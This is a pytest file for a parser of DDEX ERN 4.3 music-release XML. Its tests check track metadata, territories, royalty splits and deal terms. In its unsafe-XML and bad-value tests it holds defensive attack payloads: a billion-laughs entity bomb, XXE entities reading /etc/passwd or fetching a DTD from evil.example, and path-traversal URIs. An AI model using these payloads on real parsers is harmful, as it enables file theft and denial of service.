"""audio.delivery.ern: DDEX ERN 4.3 messages parsed safely into tracks."""

from __future__ import annotations

import datetime as dt
import json
import re
import time
from decimal import Decimal
from functools import cache
from pathlib import Path

import pytest

from audio.delivery.ern import parse_ern, parse_iso_duration
from audio.delivery.identifiers import COUNTRY_CODES
from audio.delivery.model import ParsedDelivery
from audio.reasons import Reason
from pipelines.sample_world import ern as ern_writer

R = Reason
DDEX_SAMPLE = Path("/work/shared/formats/ddex-ern/ern43-SimpleAudioSingle.xml")
FILE = "CW1.xml"
PARSER_REASONS = {
    R.META_MALFORMED_JSON, R.META_MISSING_FIELD, R.META_BAD_ISRC, R.META_BAD_UPC,
    R.META_BAD_TERRITORY, R.META_BAD_DATE, R.META_UNKNOWN_GENRE, R.META_SPLITS_NOT_100,
    R.META_TEXT_TOO_LONG, R.UNSAFE_PATH, R.XML_UNSAFE, R.XML_MALFORMED, R.ERN_INVALID,
}  # fmt: skip

@cache
def sample() -> bytes:
    """The public DDEX sample from ../shared: a required input, so its absence fails the test."""
    assert DDEX_SAMPLE.exists(), f"the shared DDEX sample is missing: {DDEX_SAMPLE}"
    return DDEX_SAMPLE.read_bytes()


def parse(data: bytes) -> ParsedDelivery:
    return parse_ern(data, "ern-20260818-0001", file=FILE)


def found(data: bytes) -> list[tuple[Reason, str | None]]:
    return [(p.reason, p.field) for p in parse(data).all_problems]


# --------------------------------------------------------------------------- a generated album


def _party(local: str, name: str) -> ern_writer.Party:
    return ern_writer.Party(ern_writer.party_reference(local), name, proprietary_id=local)


ARTIST = _party("art_00001", "Fally Ipupa")
LABEL = _party("lab_0001", "Kin Sound")


def _track(number: int, territories: tuple[str, ...]) -> ern_writer.ErnTrack:
    payees = [_party("pay_lab_0001", "Kin Sound"), _party("pay_art_00001", "Fally Ipupa")]
    return ern_writer.ErnTrack(
        isrc=f"CDCWX26000{number:02d}",
        title=f"Motema {number}",
        duration_s=201.5 + number,
        explicit=number == 2,
        language="ln",
        genre="Rumba congolaise",
        territories=territories,
        uri=f"resources/190000000015_{number:02d}.flac",
        md5=f"{number:032x}",
        pline_year=2026,
        pline_text="2026 Kin Sound",
        recording_shares=(
            ern_writer.RightShare(payees[0], "60.00"),
            ern_writer.RightShare(payees[1], "40.00"),
        ),
        publishing_shares=(ern_writer.RightShare(payees[1], "100"),),
    )


@cache
def album() -> bytes:
    """A two-track album as the sample world's label deliveries write it."""
    release = ern_writer.ErnRelease(
        message_id="CW19000000001520260818",
        created_at=dt.datetime(2026, 8, 18, 9, 30, tzinfo=dt.UTC),
        sender=ern_writer.Party("PKin", "Kin Sound", dpid="PADPIDA0000000001S"),
        recipient=ern_writer.Party("PCongoWave", "CongoWave", dpid="PADPIDA2026090101C"),
        upc="190000000015",
        title="Tokooos",
        release_type="album",
        artist=ARTIST,
        label=LABEL,
        release_date=dt.date(2026, 9, 1),
        genre="Rumba congolaise",
        tracks=(_track(1, ("WW",)), _track(2, ("CD", "CG", "BE"))),
    )
    return ern_writer.build_new_release_message(release)


def edit(old: str, new: str, count: int = 1, data: bytes | None = None) -> bytes:
    source = album() if data is None else data
    assert old.encode() in source, old
    return source.replace(old.encode(), new.encode(), count)


def test_a_generated_album_parses_into_its_tracks() -> None:
    parsed = parse(album())
    assert parsed.ok, parsed.all_problems
    first, second = parsed.accepted
    assert [t.isrc for t in parsed.accepted] == ["CDCWX2600001", "CDCWX2600002"]
    assert (first.title, first.album_title, first.upc, first.release_type) == (
        "Motema 1", "Tokooos", "190000000015", "album",
    )  # fmt: skip
    assert first.artists[0].name == "Fally Ipupa" and first.artists[0].artist_id == "art_00001"
    assert (first.label_id, first.label_name) == ("lab_0001", "Kin Sound")
    assert first.genre == "rumba_congolaise" and first.language == "ln"
    assert (first.explicit, second.explicit) == (False, True)
    assert (first.track_number, second.track_number) == (1, 2)
    assert first.declared_duration_s == pytest.approx(202.5)
    assert first.audio_file == "resources/190000000015_01.flac" and first.audio_md5 == f"{1:032x}"
    assert first.territories == ("WW",) and second.territories == ("BE", "CD", "CG")
    assert first.release_date == dt.date(2026, 9, 1)
    assert first.submitted_at == dt.datetime(2026, 8, 18, 9, 30, tzinfo=dt.UTC)
    assert [(s.payee_id, s.share) for s in first.recording_splits] == [
        ("pay_lab_0001", Decimal("60.00")), ("pay_art_00001", Decimal("40.00")),
    ]  # fmt: skip
    assert [s.payee_id for s in first.publishing_splits] == ["pay_art_00001"]
    assert {d.commercial_models for d in second.deals} == {
        ("AdvertisementSupportedModel",), ("SubscriptionModel",), ("PayAsYouGoModel",),
    }  # fmt: skip
    assert all(d.territories == ("BE", "CD", "CG") for d in second.deals)
    assert json.loads(json.dumps(first.to_record()))["deals"]


def test_any_namespace_prefix_is_read() -> None:
    data = (
        album()
        .replace(b"ern:NewReleaseMessage", b"NewReleaseMessage")
        .replace(b"xmlns:ern=", b"xmlns=")
    )
    assert parse(data).ok


# --------------------------------------------------------------------------- the DDEX sample


def test_the_ddex_sample_as_delivered_is_accepted_as_classical() -> None:
    """The real sample, unchanged: its genre (Classical, sub-genre Classical Crossover) is ours."""
    parsed = parse(sample())
    assert parsed.ok, parsed.all_problems
    [track] = parsed.accepted
    assert (track.isrc, track.upc, track.genre) == ("GBAYC1700598", "190295810726", "classical")
    assert track.title == "I Love You" and track.main_artist.name == "RIOPY"
    assert track.declared_duration_s == 263.583


def test_the_ddex_sample_maps_onto_a_track() -> None:
    """With only its genre text changed to one of ours, every other value is read as declared."""
    data = sample().replace(b"<GenreText>Classical</GenreText>", b"<GenreText>Jazz</GenreText>")
    parsed = parse(data)
    assert parsed.ok, parsed.all_problems
    [track] = parsed.accepted
    assert track.isrc == "GBAYC1700598"
    assert track.upc == "190295810726"  # from RelatedRelease/ReleaseId/ICPN
    assert track.title == "I Love You" and track.album_title == "I Love You"
    assert [(a.name, a.role, a.artist_id) for a in track.artists] == [("RIOPY", "main", None)]
    assert track.declared_duration_s == 263.583
    assert track.genre == "jazz"
    declared = set(re.findall(rb"<TerritoryCode>([A-Z]{2})</TerritoryCode>", sample()))
    assert set(track.territories) == {c.decode() for c in declared}
    assert len(track.territories) == 249 and {"CD", "GB", "ZA", "US"} <= set(track.territories)
    assert track.label_name == "Warner Classics" and track.label_id is None
    assert track.pline == "2015 Parlophone Records Limited, a Warner Music Group Company"
    assert track.release_type == "single" and track.track_number == 1
    assert track.release_date == dt.date(2017, 4, 25)  # no ReleaseDate: the deals' start
    assert track.audio_file == "resources/190295810726_00001_LL.flac"
    assert track.audio_md5 == "db7dd2f3bb9b322646e3f4d7b65b47ab"
    assert track.recording_splits == () and track.publishing_splits == ()  # none in ERN: fine
    assert track.explicit is False and track.language is None
    assert {(d.commercial_models, d.use_types) for d in track.deals} == {
        (("AdvertisementSupportedModel",), ("NonInteractiveStream", "OnDemandStream")),
        (("SubscriptionModel",), ("ConditionalDownload", "NonInteractiveStream", "OnDemandStream")),
        (("PayAsYouGoModel",), ("PermanentDownload",)),
    }  # fmt: skip


# --------------------------------------------------------------------------- unsafe XML


def _with_doctype(doctype: str, entity: str | None = None) -> bytes:
    declaration, _, body = album().partition(b"\n")
    if entity:
        body = body.replace(b"<DisplayTitleText>Motema 1", f"<DisplayTitleText>&{entity};".encode())
    return declaration + b"\n" + doctype.encode() + b"\n" + body


BILLION_LAUGHS = "\n".join(
    ["<!DOCTYPE ern:NewReleaseMessage [", '<!ENTITY lol0 "lol">']
    + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    + ["]>"]
)


@pytest.mark.parametrize(
    "data",
    [
        _with_doctype(BILLION_LAUGHS, "lol9"),
        _with_doctype(
            '<!DOCTYPE ern:NewReleaseMessage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "xxe"
        ),
        _with_doctype(
            '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'
        ),
        _with_doctype('<!DOCTYPE ern:NewReleaseMessage SYSTEM "http://ddex.net/ern.dtd">'),
        _with_doctype("<!DOCTYPE ern:NewReleaseMessage>"),  # a DTD with nothing in it
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "empty-dtd"],
)
def test_any_dtd_is_refused_unexpanded(data: bytes) -> None:
    started = time.perf_counter()
    parsed = parse(data)
    assert time.perf_counter() - started < 1.0
    [problem] = parsed.problems
    assert problem.reason is R.XML_UNSAFE and "DTDForbidden" in problem.message
    assert parsed.tracks == () and "root:" not in problem.message


# --------------------------------------------------------------------------- malformed XML


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (edit("</DisplayTitleText>", "</DisplayTitle>"), "mismatched tag"),
        (album()[: len(album()) // 2], "no element found"),
        (b"", "no element found"),
        (b"\x89PNG\r\n\x1a\n", "not well-formed"),
        (
            edit("Motema 1</DisplayTitleText>", "Motema&nbsp;1</DisplayTitleText>"),
            "undefined entity",
        ),
        (album() + b"<extra/>", "junk after document element"),
    ],
    ids=["mismatched-tag", "truncated", "empty", "binary", "undefined-entity", "two-roots"],
)
def test_malformed_xml_is_refused(data: bytes, said: str) -> None:
    [problem] = parse(data).problems
    assert problem.reason is R.XML_MALFORMED and said in problem.message and FILE in problem.message


# --------------------------------------------------------------------------- invalid messages


def _drop(tag: str) -> bytes:
    return re.sub(rf"<{tag}>.*?</{tag}>".encode(), b"", album(), flags=re.S)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b'<?xml version="1.0"?><ern:PurgeReleaseMessage xmlns:ern="http://ddex.net/xml/ern/43"/>',
         "root element is PurgeReleaseMessage"),
        (b"<html><body>hello</body></html>", "root element is html"),
        (edit("http://ddex.net/xml/ern/43", "http://ddex.net/xml/ern/382", count=-1),
         "is not DDEX ERN 4"),
        (_drop("ResourceList"), "no ResourceList"),
        (_drop("ReleaseList"), "no ReleaseList"),
        (_drop("MessageHeader"), "no MessageHeader"),
        (_drop("SoundRecording"), "no SoundRecording"),
        (re.sub(rb"<Release>.*?</Release>", b"", album(), flags=re.S), "has no Release"),
        (edit(">A2</ResourceReference>", ">A1</ResourceReference>"),
         "ResourceReference A1 is defined twice"),
        (edit("<ResourceReference>A1</ResourceReference>", ""), "has no ResourceReference"),
    ],
    ids=["wrong-message", "html", "ern-3", "no-resources", "no-releases", "no-header",
         "no-recording", "no-release", "duplicate-reference", "unreferenced-recording"],
)  # fmt: skip
def test_incoherent_messages_are_ern_invalid(data: bytes, said: str) -> None:
    [problem] = parse(data).problems
    assert problem.reason is R.ERN_INVALID and said in problem.message


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("<ReleaseResourceReference>A2</ReleaseResourceReference>",
         "<ReleaseResourceReference>A9</ReleaseResourceReference>", "resource A9"),
        ("<DealReleaseReference>R2</DealReleaseReference>",
         "<DealReleaseReference>R7</DealReleaseReference>", "release R7"),
        ("<ArtistPartyReference>Part_00001</ArtistPartyReference>",
         "<ArtistPartyReference>PNobody</ArtistPartyReference>", "ArtistPartyReference PNobody"),
        ("<RightsControllerPartyReference>Ppay_lab_0001</RightsControllerPartyReference>",
         "<RightsControllerPartyReference>PGhost</RightsControllerPartyReference>", "PGhost"),
    ],
    ids=["resource", "release", "artist-party", "payee-party"],
)  # fmt: skip
def test_dangling_references_are_ern_invalid(old: str, new: str, said: str) -> None:
    problems = parse(edit(old, new)).problems
    assert problems and all(p.reason is R.ERN_INVALID for p in problems)
    assert any(said in p.message for p in problems)


# --------------------------------------------------------------------------- bad track values

A1 = "SoundRecording A1"
DURATION = "<Duration>PT3M22.500S</Duration>"  # the first track's


@pytest.mark.parametrize(
    ("old", "new", "reason", "field"),
    [
        (DURATION, "<Duration>3:23</Duration>", R.ERN_INVALID, "Duration"),
        (DURATION, "<Duration>PT</Duration>", R.ERN_INVALID, "Duration"),
        (DURATION, "<Duration>P1M</Duration>", R.ERN_INVALID, "Duration"),
        (DURATION, "<Duration>PT0S</Duration>", R.ERN_INVALID, "Duration"),
        (DURATION, "<Duration>-PT3M</Duration>", R.ERN_INVALID, "Duration"),
        ("<HashSumValue>00000000000000000000000000000001</HashSumValue>",
         "<HashSumValue>not-a-hash</HashSumValue>", R.ERN_INVALID, "HashSum"),
        ("<ISRC>CDCWX2600001</ISRC>", "<ISRC>CDCWX26O0001</ISRC>", R.META_BAD_ISRC, "ISRC"),
        ("<ISRC>CDCWX2600001</ISRC>", "<ISRC> </ISRC>", R.META_MISSING_FIELD, "ISRC"),
        ("<URI>resources/190000000015_01.flac</URI>", "<URI>../../../etc/passwd</URI>",
         R.UNSAFE_PATH, "TechnicalDetails/DeliveryFile/File/URI"),
        ("<URI>resources/190000000015_01.flac</URI>", "<URI>/etc/passwd</URI>",
         R.UNSAFE_PATH, "TechnicalDetails/DeliveryFile/File/URI"),
        ("<URI>resources/190000000015_01.flac</URI>", "<URI>file:///etc/passwd</URI>",
         R.UNSAFE_PATH, "TechnicalDetails/DeliveryFile/File/URI"),
        ("<URI>resources/190000000015_01.flac</URI>", "<URI>%2e%2e/%2e%2e/etc/passwd</URI>",
         R.UNSAFE_PATH, "TechnicalDetails/DeliveryFile/File/URI"),
        ("<URI>resources/190000000015_01.flac</URI>", "", R.META_MISSING_FIELD,
         "TechnicalDetails/DeliveryFile/File/URI"),
        ("<TitleText>Motema 1</TitleText>", f"<TitleText>{'x' * 301}</TitleText>",
         R.META_TEXT_TOO_LONG, "DisplayTitle"),
        ("<RightSharePercentage>60.00</RightSharePercentage>",
         "<RightSharePercentage>33.33</RightSharePercentage>", R.META_SPLITS_NOT_100,
         "ResourceRightsController"),
        ("<RightSharePercentage>60.00</RightSharePercentage>",
         "<RightSharePercentage>-60</RightSharePercentage>", R.META_SPLITS_NOT_100,
         "ResourceRightsController"),
    ],
)  # fmt: skip
def test_a_bad_track_value_gets_its_reason(old: str, new: str, reason: Reason, field: str) -> None:
    parsed = parse(edit(old, new))
    assert not parsed.problems
    first, second = parsed.tracks
    assert [(p.reason, p.field) for p in first.problems] == [(reason, f"{A1}/{field}")]
    assert first.track is None and second.ok


@pytest.mark.parametrize(
    ("old", "new", "reason", "field"),
    [
        ("<ICPN>190000000015</ICPN>", "<ICPN>190000000016</ICPN>", R.META_BAD_UPC,
         "Release/ReleaseId/ICPN"),
        ("<OriginalReleaseDate>2026-09-01</OriginalReleaseDate>",
         "<OriginalReleaseDate>2026-02-30</OriginalReleaseDate>", R.META_BAD_DATE,
         "Release/OriginalReleaseDate"),
    ],
)  # fmt: skip
def test_a_bad_release_value_refuses_every_track(
    old: str, new: str, reason: Reason, field: str
) -> None:
    parsed = parse(edit(old, new))
    assert [(p.reason, p.field) for p in parsed.all_problems] == [
        (reason, f"{A1}/{field}"), (reason, f"SoundRecording A2/{field}"),
    ]  # fmt: skip


def test_a_bad_territory_in_a_track_deal_refuses_that_track() -> None:
    parsed = parse(
        edit("<TerritoryCode>BE</TerritoryCode>", "<TerritoryCode>XX</TerritoryCode>", -1)
    )
    first, second = parsed.tracks
    assert first.ok and [p.reason for p in second.problems] == [R.META_BAD_TERRITORY] * 3
    assert "'XX'" in second.problems[0].message
    assert second.problems[0].field == "SoundRecording A2/Deal/DealTerms/TerritoryCode"


def test_a_bad_release_level_deal_is_a_delivery_problem() -> None:
    """R0's deals serve no track (each has its own TrackRelease deals) but are still checked."""
    parsed = parse(edit("<TerritoryCode>BE</TerritoryCode>", "<TerritoryCode>XX</TerritoryCode>"))
    assert all(t.ok for t in parsed.tracks)
    assert [(p.reason, p.field) for p in parsed.problems] == [
        (R.META_BAD_TERRITORY, "ReleaseDeal R0/Deal/DealTerms/TerritoryCode")
    ]
    start = parse(edit("<StartDate>2026-09-01</StartDate>", "<StartDate>2026-13-45</StartDate>"))
    assert [(p.reason, p.field) for p in start.problems] == [
        (R.META_BAD_DATE, "ReleaseDeal R0/Deal/DealTerms/ValidityPeriod")
    ]


def test_an_unknown_genre_is_named() -> None:
    parsed = parse(
        edit("<GenreText>Rumba congolaise</GenreText>", "<GenreText>Polka</GenreText>", -1)
    )
    assert {(p.reason, p.field) for p in parsed.all_problems} == {
        (R.META_UNKNOWN_GENRE, f"{A1}/Genre"), (R.META_UNKNOWN_GENRE, "SoundRecording A2/Genre"),
    }  # fmt: skip


def test_a_deal_without_territories_is_missing_them() -> None:
    data = re.sub(rb"<TerritoryCode>Worldwide</TerritoryCode>", b"", album())
    assert {p.reason for p in parse(data).tracks[0].problems} == {R.META_MISSING_FIELD}


def test_a_bad_sequence_number_is_ern_invalid() -> None:
    data = edit("<SequenceNumber>2</SequenceNumber>", "<SequenceNumber>two</SequenceNumber>")
    assert found(data) == [(R.ERN_INVALID, "SoundRecording A2/SequenceNumber")]


def test_a_bad_message_timestamp_is_a_delivery_problem() -> None:
    data = edit("2026-08-18T09:30:00+00:00", "yesterday")
    assert found(data) == [(R.META_BAD_DATE, "MessageHeader/MessageCreatedDateTime")]


def test_a_track_without_deals_has_no_territories() -> None:
    data = re.sub(rb"<DealList>.*</DealList>", b"", album(), flags=re.S)
    assert {f for _r, f in found(data)} == {f"{A1}/DealList", "SoundRecording A2/DealList"}


# --------------------------------------------------------------------------- reading choices


def test_a_mapped_subgenre_wins_over_an_unknown_genre_text() -> None:
    data = edit(
        "<GenreText>Rumba congolaise</GenreText>",
        "<GenreText>World</GenreText><SubGenre>Soukous</SubGenre>",
        -1,
    )
    assert {t.genre for t in parse(data).accepted} == {"soukous"}


def test_worldwide_minus_excluded_territories() -> None:
    data = edit(
        "<TerritoryCode>Worldwide</TerritoryCode>",
        "<TerritoryCode>Worldwide</TerritoryCode><ExcludedTerritoryCode>US</ExcludedTerritoryCode>",
        -1,
    )
    first = parse(data).accepted[0]
    assert "US" not in first.territories and len(first.territories) == len(COUNTRY_CODES) - 1


def test_featured_artists_keep_their_role_and_order() -> None:
    featured = (
        '<DisplayArtist SequenceNumber="2"><ArtistPartyReference>Plab_0001</ArtistPartyReference>'
        "<DisplayArtistRole>FeaturedArtist</DisplayArtistRole></DisplayArtist>"
    )
    data = edit("<Contributor>", featured + "<Contributor>")
    credits = parse(data).accepted[0].artists
    assert [(a.name, a.role) for a in credits] == [
        ("Fally Ipupa", "main"),
        ("Kin Sound", "featured"),
    ]


def test_no_splits_in_an_ern_is_not_an_error() -> None:
    data = re.sub(
        rb"<(Resource|Work)RightsController>.*?</\1RightsController>", b"", album(), flags=re.S
    )
    parsed = parse(data)
    assert parsed.ok and all(not t.recording_splits for t in parsed.accepted)


@pytest.mark.parametrize(
    ("text", "seconds"),
    [("PT4M23.583S", 263.583), ("PT39.279S", 39.279), ("PT1H", 3600.0),
     ("P0Y0M0DT0H4M23S", 263.0), ("P1DT1S", 86401.0)],
)  # fmt: skip
def test_iso_durations(text: str, seconds: float) -> None:
    assert parse_iso_duration(text) == seconds


# --------------------------------------------------------------------------- the sample world


@pytest.mark.slow
def test_sample_world_ern_deliveries_get_exactly_their_planted_reasons(
    small_world_dir: Path,
) -> None:
    truth = json.loads((small_world_dir / "truth" / "expected_rejections.json").read_text())
    expected: dict[str, set[Reason]] = {d: set() for d in truth["accepted"] + truth["pending"]}
    expected.update(
        {r["delivery_id"]: {Reason(c) for c in r["reasons"]} for r in truth["rejections"]}
    )
    uploads = small_world_dir / "landing" / "uploads"
    checked = 0
    for delivery_id, reasons in sorted(expected.items()):
        for message in sorted((uploads / delivery_id).glob("*.xml")):
            parsed = parse_ern(message.read_bytes(), delivery_id, file=message.name)
            want = reasons & PARSER_REASONS
            assert parsed.reasons == want, (delivery_id, [p.message for p in parsed.all_problems])
            assert parsed.ok == (not want)
            checked += 1
    assert checked >= 8
